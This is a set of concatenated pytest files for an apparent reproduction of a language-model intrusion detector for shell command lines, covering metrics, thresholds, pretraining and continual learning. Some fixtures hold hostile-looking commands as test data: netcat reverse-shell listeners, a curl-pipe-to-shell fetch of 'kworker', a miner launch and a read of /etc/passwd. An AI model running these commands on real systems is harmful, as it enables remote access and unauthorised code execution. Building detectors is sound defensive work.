    vocab_size=500,
    pretrain_epochs=1,
    tuning_subsample=1_000,
    top_vs=(5, 25),
    seed=7,
)


@pytest.fixture(scope="module")
def shipped(tmp_path_factory):
    world = build_world(TINY)
    subset = training_subset(world, seed=0)
    tuner = ClassificationTuner(world.encoder, lr=1e-2, epochs=5, pooling="mean", seed=0)
    tuner.fit(subset.lines, subset.labels)
    scores = tuner.score(world.test_lines_dedup)
    threshold = calibrate_threshold(
        scores, world.inbox_mask & world.truth.astype(bool), recall_target=0.9
    )
    service = IntrusionDetectionService.from_tuner(tuner, threshold)
    bundle = tmp_path_factory.mktemp("bundle") / "ids"
    service.save(bundle)
    return world, service, bundle


class TestShippedService:
    def test_bundle_restores_identically(self, shipped):
        world, service, bundle = shipped
        restored = IntrusionDetectionService.load(bundle)
        probes = world.test_lines_dedup[:25]
        original = [v.score for v in service.inspect(probes)]
        loaded = [v.score for v in restored.inspect(probes)]
        np.testing.assert_allclose(original, loaded, atol=1e-10)

    def test_service_catches_inbox_intrusions(self, shipped):
        world, service, _ = shipped
        inbox_lines = [
            line for line, is_inbox, mal in zip(
                world.test_lines_dedup, world.inbox_mask, world.truth.astype(bool)
            ) if is_inbox and mal
        ]
        verdicts = service.inspect(inbox_lines)
        recall = np.mean([v.is_intrusion for v in verdicts])
        assert recall >= 0.8

    def test_service_passes_most_benign(self, shipped):
        world, service, _ = shipped
        benign = [
            line for line, mal in zip(world.test_lines_dedup, world.truth.astype(bool))
            if not mal
        ][:200]
        verdicts = service.inspect(benign)
        false_positive_rate = np.mean([v.is_intrusion for v in verdicts])
        assert false_positive_rate < 0.3

    def test_garbage_dropped_not_flagged(self, shipped):
        _, service, _ = shipped
        verdict = service.inspect_one("/a/b -> /c/d ->")
        assert verdict.dropped and not verdict.is_intrusion
