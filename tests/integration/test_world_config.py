"""Tests for experiment configuration plumbing (no heavy training)."""

import numpy as np
import pytest

from repro.experiments.common import (
    WorldConfig,
    clear_world_cache,
    default_world_config,
    preprocess_dataset,
)
from repro.loggen import CommandDataset, LogRecord
from repro.preprocess import PreprocessingPipeline


class TestWorldConfig:
    def test_defaults_are_small_scale(self):
        config = WorldConfig()
        assert config.train_lines > config.test_lines

    def test_scaled_override(self):
        config = WorldConfig().scaled(train_lines=99, seed=5)
        assert config.train_lines == 99
        assert config.seed == 5

    def test_hashable_for_caching(self):
        assert WorldConfig() == WorldConfig()
        assert hash(WorldConfig()) == hash(WorldConfig())
        assert WorldConfig(seed=1) != WorldConfig(seed=2)

    def test_env_scale_selection(self, monkeypatch):
        monkeypatch.setenv("REPRO_SCALE", "smoke")
        smoke = default_world_config()
        monkeypatch.setenv("REPRO_SCALE", "full")
        full = default_world_config()
        monkeypatch.setenv("REPRO_SCALE", "small")
        small = default_world_config()
        assert smoke.train_lines < small.train_lines < full.train_lines
        assert full.top_vs == (100, 1000)

    def test_unknown_scale_falls_back_to_small(self, monkeypatch):
        monkeypatch.setenv("REPRO_SCALE", "galactic")
        assert default_world_config() == WorldConfig()

    def test_clear_world_cache(self):
        clear_world_cache()  # must not raise


class TestPreprocessDataset:
    def test_filters_and_normalizes_records(self):
        from datetime import datetime

        records = [
            LogRecord("ls   -la", "u1", "m1", datetime(2022, 5, 1)),
            LogRecord("ls |", "u1", "m1", datetime(2022, 5, 1)),
            LogRecord("zzz-rare-cmd x", "u1", "m1", datetime(2022, 5, 1)),
            LogRecord("ls /tmp", "u1", "m1", datetime(2022, 5, 1)),
        ]
        dataset = CommandDataset(records)
        pipeline = PreprocessingPipeline(min_command_count=2)
        pipeline.fit(dataset.lines())
        processed = preprocess_dataset(pipeline, dataset)
        assert processed.lines() == ["ls -la", "ls /tmp"]
        assert processed[0].user == "u1"
