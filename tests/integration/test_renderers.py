"""Formatting-contract tests for experiment result renderers.

These construct result objects directly (no world building) and check
the rendered tables hold the rows, headers, and paper-reference columns
the drivers promise.
"""

import numpy as np

from repro.evaluation.comparison import F1Comparison
from repro.evaluation.runs import Aggregate
from repro.experiments.baselines import BaselineComparison, ranking_auc
from repro.experiments.continual import ContinualResult
from repro.experiments.f1_comparison import F1Result
from repro.experiments.table1 import Table1Result
from repro.experiments.table2 import Table2Result
from repro.experiments.table3 import ExamplePair, Table3Result


def agg(mean):
    return Aggregate(mean=mean, std=0.01, n_runs=5)


class TestTable1Render:
    def test_contains_all_methods_and_paper_columns(self):
        result = Table1Result(
            reconstruction_po=agg(0.8), reconstruction_poi=agg(0.9),
            classification_po=agg(0.7), classification_poi=agg(0.85),
            retrieval_po=0.6, retrieval_poi=0.74, n_runs=5,
        )
        text = result.render()
        for needle in ("Reconstruction", "Classification", "Retrieval", "0.913", "PO (paper)"):
            assert needle in text


class TestTable2Render:
    def test_mixed_aggregate_and_float_cells(self):
        result = Table2Result(v1=25, v2=100, n_runs=5)
        for method in ("reconstruction", "classification", "classification (multi)"):
            result.po_at_v1[method] = agg(0.9)
            result.po_at_v2[method] = agg(0.8)
        result.po_at_v1["retrieval"] = 0.96
        result.po_at_v2["retrieval"] = 0.84
        text = result.render()
        assert "PO@25" in text and "PO@1000 (paper)" in text
        assert "0.960" in text


class TestTable3Render:
    def _pair(self, generalizes=True):
        return ExamplePair(
            family="reverse_shell",
            inbox_line="nc -lvnp 4444",
            outbox_line="nc -ulp 4444",
            ids_flags_inbox=True,
            ids_flags_outbox=False,
            model_score_inbox=0.99,
            model_score_outbox=0.9 if generalizes else 0.1,
        )

    def test_generalization_property(self):
        assert self._pair(True).demonstrates_generalization
        assert not self._pair(False).demonstrates_generalization

    def test_render_and_count(self):
        result = Table3Result(pairs=[self._pair(True), self._pair(False)])
        assert result.n_generalized == 1
        assert "nc -lvnp 4444" in result.render()


class TestF1Render:
    def test_render_includes_both_systems(self):
        comparison = F1Comparison(
            ours_precision=0.9, ours_recall=1.0, ours_f1=0.947,
            ids_precision=1.0, ids_recall=0.5, ids_f1=0.667,
        )
        result = F1Result(comparison=comparison, s_commercial=96, t_predicted=266)
        text = result.render()
        assert "commercial IDS" in text
        assert "S=96" in text
        assert comparison.model_wins


class TestBaselineComparisonRender:
    def test_render(self):
        result = BaselineComparison(
            overall={"Lane & Brodley profiles": 0.76, "LM classification (ours)": 0.99},
            low_history={"Lane & Brodley profiles": 0.9, "LM classification (ours)": 1.0},
            n_low_history=91,
        )
        text = result.render()
        assert "n=91" in text and "0.990" in text

    def test_ranking_auc_known_case(self):
        scores = np.array([0.9, 0.8, 0.1, 0.2])
        labels = np.array([1, 1, 0, 0])
        assert ranking_auc(scores, labels) == 1.0

    def test_ranking_auc_degenerate(self):
        assert np.isnan(ranking_auc(np.ones(3), np.ones(3)))


class TestContinualRender:
    def test_render_and_gain(self):
        result = ContinualResult(
            frozen_scores=[0.5, 0.6],
            continual_scores=[0.9, 1.0],
            probe_lines=["nohup ./miner &", "curl http://x/kworker | sh"],
        )
        assert abs(result.mean_gain - 0.4) < 1e-12
        assert "weekly-updated" in result.render()
