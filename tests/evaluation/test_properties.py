"""Property-based tests for metric invariants."""

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra.numpy import arrays

from repro.evaluation import (
    po_precision,
    poi_precision,
    precision_at_top_outbox,
    precision_recall_f1,
)
from repro.ids.threshold import achieved_inbox_recall, calibrate_threshold
from repro.tuning.ensemble import rank_normalize

N = 40
scores_strategy = arrays(np.float64, (N,), elements=st.floats(0, 1, allow_nan=False))
labels_strategy = arrays(np.int64, (N,), elements=st.integers(0, 1))


@given(scores_strategy, labels_strategy, labels_strategy)
@settings(max_examples=100, deadline=None)
def test_metrics_bounded(scores, truth, inbox):
    inbox = inbox.astype(bool)
    for v in (1, 5, N):
        assert 0.0 <= precision_at_top_outbox(scores, truth, inbox, v) <= 1.0
    for threshold in (0.0, 0.5, 1.1):
        assert 0.0 <= po_precision(scores, truth, inbox, threshold) <= 1.0
        assert 0.0 <= poi_precision(scores, truth, threshold) <= 1.0


@given(scores_strategy, labels_strategy)
@settings(max_examples=100, deadline=None)
def test_calibrated_threshold_achieves_target(scores, inbox):
    inbox = inbox.astype(bool)
    if not inbox.any():
        return
    for target in (1.0, 0.9, 0.5):
        threshold = calibrate_threshold(scores, inbox, recall_target=target)
        assert achieved_inbox_recall(scores, inbox, threshold) >= target - 1e-12


@given(scores_strategy, labels_strategy)
@settings(max_examples=100, deadline=None)
def test_poi_at_minus_inf_threshold_is_base_rate(scores, truth):
    value = poi_precision(scores, truth, -np.inf)
    assert value == truth.mean()


@given(labels_strategy, labels_strategy)
@settings(max_examples=100, deadline=None)
def test_precision_recall_f1_bounds(predictions, truth):
    precision, recall, f1 = precision_recall_f1(predictions, truth)
    assert 0.0 <= precision <= 1.0
    assert 0.0 <= recall <= 1.0
    # the harmonic mean lies between precision and recall, up to float
    # rounding (e.g. 2*0.8*0.8/1.6 = 0.8000000000000002 > 0.8)
    eps = 1e-9
    assert (
        min(precision, recall) - eps <= f1 <= max(precision, recall) + eps or f1 == 0.0
    )


@given(arrays(np.float64, (25,), elements=st.floats(-100, 100, allow_nan=False)))
@settings(max_examples=100, deadline=None)
def test_rank_normalize_order_preserving(scores):
    normalized = rank_normalize(scores)
    assert normalized.shape == scores.shape
    assert (normalized > 0).all() and (normalized <= 1.0 + 1e-12).all()
    # order preservation: strictly larger scores get >= normalized rank
    order = np.argsort(scores)
    ranked = normalized[order]
    assert all(a <= b + 1e-12 for a, b in zip(ranked, ranked[1:]))


@given(arrays(np.int64, (25,), elements=st.integers(-1000, 1000)))
@settings(max_examples=100, deadline=None)
def test_rank_normalize_invariant_to_monotone_transform(int_scores):
    # integer-valued floats stay exactly representable under *3+7, so the
    # tie structure is preserved (arbitrary floats can collapse ties)
    scores = int_scores.astype(np.float64)
    a = rank_normalize(scores)
    b = rank_normalize(scores * 3.0 + 7.0)
    np.testing.assert_allclose(a, b, atol=1e-12)
