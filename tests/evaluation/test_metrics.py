"""Tests for the PO/PO&I/PO@v metrics and the Section V-B algebra."""

import numpy as np
import pytest

from repro.evaluation import (
    Aggregate,
    aggregate,
    aggregate_metric_dicts,
    commercial_ids_recall,
    compare_with_commercial_ids,
    evaluate_method,
    f1_from,
    format_table,
    po_precision,
    poi_precision,
    precision_at_top_outbox,
    precision_recall_f1,
    repeat_runs,
)


@pytest.fixture
def toy():
    """10 samples: 2 in-box intrusions, 3 out-of-box intrusions, 5 benign."""
    scores = np.array([0.99, 0.95, 0.90, 0.85, 0.80, 0.40, 0.30, 0.20, 0.10, 0.05])
    truth = np.array([1, 1, 1, 1, 0, 1, 0, 0, 0, 0])
    inbox = np.array([True, True, False, False, False, False, False, False, False, False])
    return scores, truth, inbox


class TestPOAtV:
    def test_excludes_inbox_from_ranking(self, toy):
        scores, truth, inbox = toy
        # top-2 out-of-box candidates are idx 2 (mal) and 3 (mal)
        assert precision_at_top_outbox(scores, truth, inbox, 2) == 1.0

    def test_counts_benign_in_prefix(self, toy):
        scores, truth, inbox = toy
        # top-3 outbox candidates: idx 2, 3 (mal), 4 (benign)
        assert precision_at_top_outbox(scores, truth, inbox, 3) == pytest.approx(2 / 3)

    def test_v_larger_than_candidates(self, toy):
        scores, truth, inbox = toy
        value = precision_at_top_outbox(scores, truth, inbox, 100)
        assert value == pytest.approx(3 / 8)

    def test_v_validation(self, toy):
        scores, truth, inbox = toy
        with pytest.raises(ValueError):
            precision_at_top_outbox(scores, truth, inbox, 0)

    def test_all_inbox_returns_zero(self):
        assert precision_at_top_outbox(np.ones(2), np.ones(2), np.ones(2, dtype=bool), 1) == 0.0


class TestPOAndPOI:
    def test_po_excludes_inbox(self, toy):
        scores, truth, inbox = toy
        # threshold 0.85: predicted = idx 0..3; out-of-box predicted = 2,3 both malicious
        assert po_precision(scores, truth, inbox, 0.85) == 1.0

    def test_poi_includes_all_predictions(self, toy):
        scores, truth, inbox = toy
        # threshold 0.80: predicted idx 0..4, four of five malicious
        assert poi_precision(scores, truth, 0.80) == pytest.approx(4 / 5)

    def test_empty_predictions_return_zero(self, toy):
        scores, truth, inbox = toy
        assert po_precision(scores, truth, inbox, 2.0) == 0.0
        assert poi_precision(scores, truth, 2.0) == 0.0


class TestEvaluateMethod:
    def test_full_protocol(self, toy):
        scores, truth, inbox = toy
        ev = evaluate_method("toy", scores, truth, inbox, recall_target=1.0, top_vs=(2, 3))
        # threshold = min in-box intrusion score = 0.95
        assert ev.threshold == pytest.approx(0.95)
        assert ev.inbox_recall == 1.0
        assert ev.n_predicted_positive == 2
        assert ev.poi == 1.0
        assert ev.po_at[2] == 1.0

    def test_row_formatting(self, toy):
        scores, truth, inbox = toy
        ev = evaluate_method("toy", scores, truth, inbox, top_vs=(2,))
        row = ev.row((2,))
        assert row[0] == "toy"
        assert len(row) == 4

    def test_shape_validation(self):
        with pytest.raises(ValueError):
            evaluate_method("x", np.ones(3), np.ones(2), np.zeros(3, dtype=bool))


class TestF1Algebra:
    def test_paper_numbers_reproduced(self):
        """Check our implementation of the Sec. V-B algebra emits ~97.4%
        recall / 98.7% F1 for an (S, T) consistent with the paper.

        Solving uS/(xT + u(1-x)S) = 0.974 with x = 0.832 and u = 1 gives
        S ≈ 0.969 T, i.e. the predicted-positive set is dominated by
        in-box intrusions at production scale.
        """
        comparison = compare_with_commercial_ids(
            poi=0.994, po=0.832, n_predicted_positive=4000, s_commercial_detections=3876, u=1.0
        )
        assert comparison.ours_f1 == pytest.approx(0.997, abs=0.0005)
        assert comparison.ids_recall == pytest.approx(0.974, abs=0.01)
        assert comparison.ids_f1 == pytest.approx(0.987, abs=0.005)
        assert comparison.model_wins

    def test_f1_from_edge_cases(self):
        assert f1_from(0.0, 0.0) == 0.0
        assert f1_from(1.0, 1.0) == 1.0

    def test_recall_capped_at_one(self):
        assert commercial_ids_recall(s=100, t=1, x=0.0, u=1.0) == 1.0

    def test_negative_inputs_rejected(self):
        with pytest.raises(ValueError):
            commercial_ids_recall(s=-1, t=5, x=0.5)

    def test_zero_denominator(self):
        assert commercial_ids_recall(s=0, t=0, x=0.0) == 0.0


class TestPrecisionRecallF1:
    def test_known_values(self):
        predictions = np.array([1, 1, 0, 0])
        truth = np.array([1, 0, 1, 0])
        precision, recall, f1 = precision_recall_f1(predictions, truth)
        assert precision == 0.5
        assert recall == 0.5
        assert f1 == 0.5

    def test_degenerate_all_negative(self):
        precision, recall, f1 = precision_recall_f1(np.zeros(4), np.zeros(4))
        assert (precision, recall, f1) == (0.0, 0.0, 0.0)


class TestAggregation:
    def test_aggregate_mean_std(self):
        agg = aggregate([1.0, 2.0, 3.0])
        assert agg.mean == 2.0
        assert agg.std == pytest.approx(np.std([1, 2, 3]))
        assert "±" in str(agg)

    def test_aggregate_empty_raises(self):
        with pytest.raises(ValueError):
            aggregate([])

    def test_aggregate_metric_dicts(self):
        runs = [{"po": 0.8, "poi": 0.9}, {"po": 0.6, "poi": 1.0}]
        result = aggregate_metric_dicts(runs)
        assert result["po"].mean == pytest.approx(0.7)

    def test_mismatched_keys_rejected(self):
        with pytest.raises(ValueError):
            aggregate_metric_dicts([{"a": 1.0}, {"b": 2.0}])

    def test_repeat_runs(self):
        result = repeat_runs(lambda seed: {"value": float(seed)}, n_runs=3, base_seed=10)
        assert result["value"].mean == 11.0
        assert result["value"].n_runs == 3


class TestFormatTable:
    def test_alignment(self):
        text = format_table(["a", "bb"], [["1", "2"], ["333", "4"]])
        lines = text.splitlines()
        assert lines[0].startswith("a ")
        assert "-+-" in lines[1]

    def test_title(self):
        text = format_table(["x"], [["1"]], title="T")
        assert text.splitlines()[0] == "T"

    def test_row_width_validation(self):
        with pytest.raises(ValueError):
            format_table(["a", "b"], [["only-one"]])
