"""Tests for the weekly continual-learning loop."""

from datetime import datetime

import numpy as np
import pytest

from repro.ids import CommercialIDS
from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
from repro.lm.continual import ContinualLearner
from repro.loggen import CommandDataset, FleetConfig, FleetSimulator
from repro.tokenizer import BPETokenizer


@pytest.fixture(scope="module")
def deployment():
    sim = FleetSimulator(FleetConfig(seed=21, attack_session_rate=0.08, outbox_fraction=0.0))
    week1 = sim.generate(datetime(2022, 5, 1), 2, 1200)
    week2 = sim.generate(datetime(2022, 5, 8), 2, 800)
    tokenizer = BPETokenizer(vocab_size=500).train(week1.lines())
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
    Pretrainer(model, collator, lr=3e-3, batch_size=32, seed=0).train(week1.lines(), epochs=1)
    encoder = CommandEncoder(model, tokenizer, pooling="mean")
    return encoder, week1, week2


class TestContinualLearner:
    def test_update_produces_report_and_head(self, deployment):
        encoder, week1, week2 = deployment
        learner = ContinualLearner(encoder, CommercialIDS(seed=0), update_epochs=1, seed=0)
        report = learner.update(week2)
        assert report.week == 1
        assert report.n_lines == len(week2)
        assert report.n_positive_labels > 0
        assert learner.tuner is not None
        assert learner.week == 1

    def test_scores_after_update(self, deployment):
        encoder, _, week2 = deployment
        learner = ContinualLearner(encoder, CommercialIDS(seed=0), update_epochs=1, seed=0)
        learner.update(week2)
        scores = learner.score(["nc -lvnp 4444", "ls -la"])
        assert scores.shape == (2,)
        assert scores[0] > scores[1]

    def test_supervision_accumulates_across_weeks(self, deployment):
        encoder, week1, week2 = deployment
        learner = ContinualLearner(encoder, CommercialIDS(seed=0), update_epochs=1, seed=0)
        learner.update(week1.subset(range(400)))
        first_total = len(learner._cumulative_labeled_lines)
        learner.update(week2.subset(range(400)))
        assert len(learner._cumulative_labeled_lines) > first_total
        assert learner.week == 2

    def test_empty_week_rejected(self, deployment):
        encoder, _, _ = deployment
        learner = ContinualLearner(encoder, CommercialIDS(seed=0))
        with pytest.raises(ValueError):
            learner.update(CommandDataset([]))

    def test_score_before_update_rejected(self, deployment):
        encoder, _, _ = deployment
        learner = ContinualLearner(encoder, CommercialIDS(seed=0))
        with pytest.raises(ValueError):
            learner.score(["ls"])

    def test_retune_without_positives_rejected(self, deployment):
        encoder, _, _ = deployment
        learner = ContinualLearner(encoder, CommercialIDS(seed=0))
        learner._cumulative_labeled_lines = ["ls", "pwd"]
        learner._cumulative_labels = [0, 0]
        with pytest.raises(ValueError):
            learner.retune()

    def test_update_moves_the_language_model(self, deployment):
        encoder, _, week2 = deployment
        before = {k: v.copy() for k, v in encoder.model.state_dict().items()}
        learner = ContinualLearner(encoder, CommercialIDS(seed=0), update_epochs=1, seed=0)
        learner.update(week2, retune=False)
        after = encoder.model.state_dict()
        changed = any(not np.allclose(before[k], after[k]) for k in before)
        assert changed
