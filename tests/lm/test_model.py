"""Tests for the command-line LM: config, model, masking, pooling."""

import numpy as np
import pytest

from repro.errors import ConfigError
from repro.lm import (
    IGNORE_INDEX,
    CommandLineLM,
    LMConfig,
    MLMCollator,
    cls_pool,
    load_pretrained,
    mean_pool,
    pool,
    save_pretrained,
)
from repro.nn import Tensor
from repro.tokenizer import BPETokenizer

CORPUS = ["ls -la /tmp", "docker ps -a", "grep error app.log", "python main.py"] * 10


@pytest.fixture(scope="module")
def tokenizer():
    return BPETokenizer(vocab_size=300).train(CORPUS)


@pytest.fixture(scope="module")
def model(tokenizer):
    return CommandLineLM(LMConfig.tiny(vocab_size=len(tokenizer.vocab)))


class TestConfig:
    def test_presets(self):
        assert LMConfig.tiny(100).hidden_size == 32
        assert LMConfig.small(100).n_layers == 3

    def test_bert_base_matches_paper(self):
        config = LMConfig.bert_base()
        assert config.n_layers == 12
        assert config.n_heads == 12
        assert config.hidden_size == 768
        assert config.max_position == 1024
        assert config.vocab_size == 50_000

    def test_head_divisibility_enforced(self):
        with pytest.raises(ConfigError):
            LMConfig(vocab_size=100, hidden_size=30, n_heads=4)

    def test_mask_prob_validated(self):
        with pytest.raises(ConfigError):
            LMConfig(vocab_size=100, mask_prob=0.0)

    def test_json_roundtrip(self, tmp_path):
        config = LMConfig.tiny(200)
        config.to_json(tmp_path / "c.json")
        assert LMConfig.from_json(tmp_path / "c.json") == config

    def test_overrides(self):
        assert LMConfig.tiny(100, n_layers=5).n_layers == 5


class TestModel:
    def test_forward_shape(self, model):
        hidden = model(np.zeros((2, 8), dtype=int))
        assert hidden.shape == (2, 8, model.config.hidden_size)

    def test_mlm_logits_shape(self, model):
        logits = model.mlm_logits(np.zeros((2, 8), dtype=int))
        assert logits.shape == (2, 8, model.config.vocab_size)

    def test_rejects_1d_input(self, model):
        with pytest.raises(ValueError):
            model(np.zeros(8, dtype=int))

    def test_rejects_overlong_sequence(self, model):
        with pytest.raises(ValueError):
            model(np.zeros((1, model.config.max_position + 1), dtype=int))

    def test_deterministic_in_eval(self, model):
        model.eval()
        ids = np.ones((1, 6), dtype=int)
        a = model(ids).data
        b = model(ids).data
        np.testing.assert_array_equal(a, b)

    def test_padding_does_not_change_valid_positions(self, model):
        model.eval()
        ids = np.array([[1, 2, 3]])
        hidden_short = model(ids, np.array([[True, True, True]]))
        padded = np.array([[1, 2, 3, 0, 0]])
        mask = np.array([[True, True, True, False, False]])
        hidden_padded = model(padded, mask)
        np.testing.assert_allclose(hidden_short.data, hidden_padded.data[:, :3], atol=1e-8)


class TestMasking:
    def test_labels_only_on_selected(self, tokenizer):
        collator = MLMCollator(tokenizer, mask_prob=0.5, seed=0)
        batch = collator.collate(CORPUS[:8])
        changed = batch.labels != IGNORE_INDEX
        assert changed.any()
        # labels store the ORIGINAL ids at selected positions
        ids, _ = collator.pad(collator.encode_lines(CORPUS[:8]))
        np.testing.assert_array_equal(batch.labels[changed], ids[changed])

    def test_specials_never_masked(self, tokenizer):
        collator = MLMCollator(tokenizer, mask_prob=0.9, seed=0)
        batch = collator.collate(CORPUS[:8])
        cls_id = tokenizer.vocab.cls_id
        sep_id = tokenizer.vocab.sep_id
        original_ids, _ = collator.pad(collator.encode_lines(CORPUS[:8]))
        special_positions = np.isin(original_ids, [cls_id, sep_id, tokenizer.vocab.pad_id])
        assert (batch.labels[special_positions] == IGNORE_INDEX).all()

    def test_masking_rate_near_q(self, tokenizer):
        collator = MLMCollator(tokenizer, mask_prob=0.15, seed=1)
        batch = collator.collate(CORPUS * 8)
        eligible = batch.attention_mask.sum() - 2 * len(CORPUS * 8)  # minus CLS/SEP
        rate = batch.n_predictions / eligible
        assert 0.10 < rate < 0.20

    def test_dynamic_masking_differs_between_calls(self, tokenizer):
        collator = MLMCollator(tokenizer, mask_prob=0.3, seed=2)
        first = collator.collate(CORPUS[:8]).input_ids
        second = collator.collate(CORPUS[:8]).input_ids
        assert (first != second).any()

    def test_mask_token_applied(self, tokenizer):
        collator = MLMCollator(tokenizer, mask_prob=0.9, seed=3)
        batch = collator.collate(CORPUS[:8])
        assert (batch.input_ids == tokenizer.vocab.mask_id).any()

    def test_pad_shapes(self, tokenizer):
        collator = MLMCollator(tokenizer, seed=0)
        ids, mask = collator.pad([[1, 2, 3], [4]])
        assert ids.shape == (2, 3)
        assert mask[1, 1] == False  # noqa: E712

    def test_empty_batch_raises(self, tokenizer):
        with pytest.raises(ValueError):
            MLMCollator(tokenizer).pad([])

    def test_invalid_mask_prob(self, tokenizer):
        with pytest.raises(ValueError):
            MLMCollator(tokenizer, mask_prob=1.5)


class TestPooling:
    def test_cls_pool_takes_first_position(self):
        hidden = Tensor(np.arange(24, dtype=float).reshape(2, 3, 4))
        pooled = cls_pool(hidden)
        np.testing.assert_array_equal(pooled.data, hidden.data[:, 0, :])

    def test_mean_pool_ignores_padding(self):
        hidden = Tensor(np.ones((1, 3, 2)) * np.array([1.0, 2.0, 300.0]).reshape(1, 3, 1))
        mask = np.array([[True, True, False]])
        pooled = mean_pool(hidden, mask)
        np.testing.assert_allclose(pooled.data, [[1.5, 1.5]])

    def test_mean_pool_requires_valid_rows(self):
        with pytest.raises(ValueError):
            mean_pool(Tensor(np.ones((1, 2, 2))), np.array([[False, False]]))

    def test_pool_dispatch(self):
        hidden = Tensor(np.ones((1, 2, 2)))
        mask = np.array([[True, True]])
        assert pool(hidden, mask, "mean").shape == (1, 2)
        assert pool(hidden, mask, "cls").shape == (1, 2)
        with pytest.raises(ValueError):
            pool(hidden, mask, "sum")


class TestCheckpointBundle:
    def test_save_load_roundtrip(self, tmp_path, tokenizer, model):
        save_pretrained(tmp_path / "bundle", model, tokenizer)
        restored_model, restored_tokenizer = load_pretrained(tmp_path / "bundle")
        ids = np.ones((1, 5), dtype=int)
        model.eval()
        np.testing.assert_allclose(model(ids).data, restored_model(ids).data)
        assert restored_tokenizer.encode("ls").ids == tokenizer.encode("ls").ids

    def test_missing_file_raises(self, tmp_path):
        from repro.errors import CheckpointError

        with pytest.raises(CheckpointError):
            load_pretrained(tmp_path / "nothing")
