"""Property-based tests for MLM masking invariants."""

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.lm import IGNORE_INDEX, MLMCollator
from repro.tokenizer import BPETokenizer

CORPUS = [
    "ls -la /tmp",
    "docker ps -a",
    "grep error /var/log/app.log",
    "python main.py --verbose",
    "cat /etc/passwd",
    "curl http://host:8080/healthz",
] * 5

TOKENIZER = BPETokenizer(vocab_size=400).train(CORPUS)

lines_strategy = st.lists(st.sampled_from(CORPUS), min_size=1, max_size=12)
prob_strategy = st.floats(min_value=0.05, max_value=0.9)
seed_strategy = st.integers(min_value=0, max_value=2**31 - 1)


@given(lines_strategy, prob_strategy, seed_strategy)
@settings(max_examples=60, deadline=None)
def test_labels_match_originals_exactly_at_selected_positions(lines, prob, seed):
    collator = MLMCollator(TOKENIZER, mask_prob=prob, seed=seed)
    original, mask = collator.pad(collator.encode_lines(lines))
    batch = collator.mask_batch(original, mask)
    selected = batch.labels != IGNORE_INDEX
    np.testing.assert_array_equal(batch.labels[selected], original[selected])


@given(lines_strategy, prob_strategy, seed_strategy)
@settings(max_examples=60, deadline=None)
def test_unselected_positions_unchanged(lines, prob, seed):
    collator = MLMCollator(TOKENIZER, mask_prob=prob, seed=seed)
    original, mask = collator.pad(collator.encode_lines(lines))
    batch = collator.mask_batch(original, mask)
    unselected = batch.labels == IGNORE_INDEX
    np.testing.assert_array_equal(batch.input_ids[unselected], original[unselected])


@given(lines_strategy, seed_strategy)
@settings(max_examples=60, deadline=None)
def test_padding_never_selected(lines, seed):
    collator = MLMCollator(TOKENIZER, mask_prob=0.9, seed=seed)
    batch = collator.collate(lines)
    assert (batch.labels[~batch.attention_mask] == IGNORE_INDEX).all()


@given(lines_strategy, seed_strategy)
@settings(max_examples=60, deadline=None)
def test_input_ids_stay_in_vocab(lines, seed):
    collator = MLMCollator(TOKENIZER, mask_prob=0.5, seed=seed)
    batch = collator.collate(lines)
    assert batch.input_ids.min() >= 0
    assert batch.input_ids.max() < len(TOKENIZER.vocab)


@given(lines_strategy, seed_strategy)
@settings(max_examples=40, deadline=None)
def test_attention_mask_matches_lengths(lines, seed):
    collator = MLMCollator(TOKENIZER, mask_prob=0.15, seed=seed)
    encodings = collator.encode_lines(lines)
    batch = collator.collate(lines)
    for row, ids in enumerate(encodings):
        assert batch.attention_mask[row].sum() == len(ids)
