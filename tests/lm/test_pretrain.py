"""Tests for the MLM pre-training loop and the encoder API."""

import numpy as np
import pytest

from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
from repro.tokenizer import BPETokenizer

CORPUS = [
    "ls -la /tmp",
    "ls /home/user",
    "docker ps -a",
    "docker run -it ubuntu bash",
    "grep error /var/log/app.log",
    "python main.py --verbose",
    "cat /etc/passwd",
    "ps aux | grep nginx",
] * 12


@pytest.fixture(scope="module")
def tokenizer():
    return BPETokenizer(vocab_size=300).train(CORPUS)


@pytest.fixture(scope="module")
def trained(tokenizer):
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, mask_prob=0.15, max_length=config.max_position, seed=0)
    trainer = Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0)
    report = trainer.train(CORPUS, epochs=3)
    return model, report


class TestPretrainer:
    def test_loss_decreases(self, trained):
        _, report = trained
        first = np.mean(report.losses[:5])
        last = report.smoothed_loss(10)
        assert last < first * 0.9

    def test_report_counts_steps(self, trained):
        _, report = trained
        expected = ((len(CORPUS) + 15) // 16) * 3
        assert report.steps == expected

    def test_masked_accuracy_improves(self, trained):
        _, report = trained
        assert np.mean(report.masked_accuracies[-10:]) > np.mean(report.masked_accuracies[:5])

    def test_model_left_in_eval_mode(self, trained):
        model, _ = trained
        assert model.training is False

    def test_max_steps_cap(self, tokenizer):
        config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
        model = CommandLineLM(config)
        collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
        report = Pretrainer(model, collator, batch_size=8, seed=0).train(
            CORPUS, epochs=10, max_steps=4
        )
        assert report.steps == 4

    def test_progress_callback(self, tokenizer):
        config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
        model = CommandLineLM(config)
        collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
        seen = []
        Pretrainer(model, collator, batch_size=8, seed=0).train(
            CORPUS[:16], epochs=1, progress=lambda step, loss: seen.append(step)
        )
        assert seen == list(range(1, len(seen) + 1))

    def test_empty_corpus_raises(self, tokenizer):
        config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
        model = CommandLineLM(config)
        collator = MLMCollator(tokenizer, max_length=config.max_position)
        with pytest.raises(ValueError):
            Pretrainer(model, collator).train([], epochs=1)

    def test_invalid_batch_size(self, tokenizer):
        config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
        model = CommandLineLM(config)
        collator = MLMCollator(tokenizer, max_length=config.max_position)
        with pytest.raises(ValueError):
            Pretrainer(model, collator, batch_size=0)

    def test_final_loss_property(self, trained):
        _, report = trained
